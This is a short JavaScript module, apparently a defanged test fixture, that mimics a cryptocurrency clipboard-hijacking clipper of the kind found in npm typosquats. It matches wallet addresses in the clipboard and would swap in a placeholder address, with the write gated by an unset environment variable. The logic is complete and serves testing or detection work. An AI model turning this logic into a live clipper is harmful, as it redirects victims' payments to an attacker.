// Mimics desktop clipboard clippers shipped in npm typosquats: poll the clipboard, and when it
// holds a wallet address, write a look-alike from the swap list instead. Defanged: fixture
// addresses and the loop never starts (it only logs what it would do).
const clipboard = require('clipboardy');

const patterns = [/\b0x[a-fA-F0-9]{40}\b/, /\bbc1[qpzry9x8gf2tvdw0s3jn54khce6mua7l]{11,71}\b/];
const swaps = [
  '0xF1C7000000000000000000000000000000000011',
  '0xF1C7000000000000000000000000000000000012',
  '0xF1C7000000000000000000000000000000000013',
  '0xF1C7000000000000000000000000000000000014',
  '0xF1C7000000000000000000000000000000000015',
];

function check() {
  const text = clipboard.readSync();
  if (patterns.some((re) => re.test(text))) {
    console.log('fixture: would write', swaps[0]);
    if (process.env.FIXTURE_NEVER_SET === 'yes') clipboard.writeSync(swaps[0]);
  }
}

module.exports = { check };
